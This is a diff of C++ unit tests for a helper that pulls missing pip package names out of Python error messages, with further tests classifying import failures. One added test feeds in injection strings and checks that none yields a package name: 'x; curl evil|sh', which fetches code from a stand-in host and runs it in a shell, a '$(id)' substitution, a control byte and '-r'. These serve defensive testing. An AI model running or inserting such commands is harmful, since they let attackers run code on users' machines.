@@ -37,6 +37,19 @@ TEST(Hints, NameThePackageThatAMessageAsksFor) {
   for (const auto& [message, package] : cases) EXPECT_EQ(missing_package(message), package) << message;
 }
 
+// What is put into a command is a name, and nothing else that a log may hold.
+TEST(Hints, NameNothingThatNoPackageIsCalled) {
+  EXPECT_EQ(missing_package("No module named 'x; curl evil|sh'"), "");
+  EXPECT_EQ(missing_package("No module named '$(id)'"), "");
+  EXPECT_EQ(missing_package("No module named '\xC2\x9B"
+                            "1m'"),
+            "");
+  EXPECT_EQ(missing_package("No module named '-r'"), "");
+  // A file beside the script, not the package that pip has under that name.
+  EXPECT_EQ(missing_package("No module named 'utils.boxes'"), "");
+  EXPECT_EQ(missing_package("No module named 'seqeval'"), "seqeval");
+}
+
 TEST(Hints, TellBetweenWhichPackagesAnImportFailed) {
   const auto frames = [](const char* path) { return std::vector<Frame>{{"x.py", path, 1, "f", true}}; };
   const char *torch = "/opt/site-packages/torch/nn/x.py", *script = "/home/ana/train.py";
@@ -51,6 +64,14 @@ TEST(Hints, TellBetweenWhichPackagesAnImportFailed) {
   EXPECT_EQ(read_import("ImportError: cannot import name '_C' from 'torch'", frames(torch)), Import::kUnknown);
   EXPECT_EQ(read_import("ModuleNotFoundError: No module named 'numpy'", frames(torch)), Import::kUnknown);
   EXPECT_EQ(read_import("Can't get attribute 'a' from 'torch.nn'", frames(torch)), Import::kUnknown);
+}
+
+TEST(Hints, AMissingPartOfAPackageIsAnotherVersions) {
+  const std::optional<Frame> frame =
+      read_frame("  File \"/opt/lib/python3.10/site-packages/alignment/model_utils.py\", line 25, in <module>");
+  EXPECT_EQ(read_import("ModuleNotFoundError: No module named 'huggingface_hub.utils._errors'", {&*frame, 1}),
+            Import::kFromOther);
+  EXPECT_EQ(read_import("ModuleNotFoundError: No module named 'huggingface_hub'", {&*frame, 1}), Import::kUnknown);
 }
 
 TEST(Hints, NameTheModuleThatIsNone) {
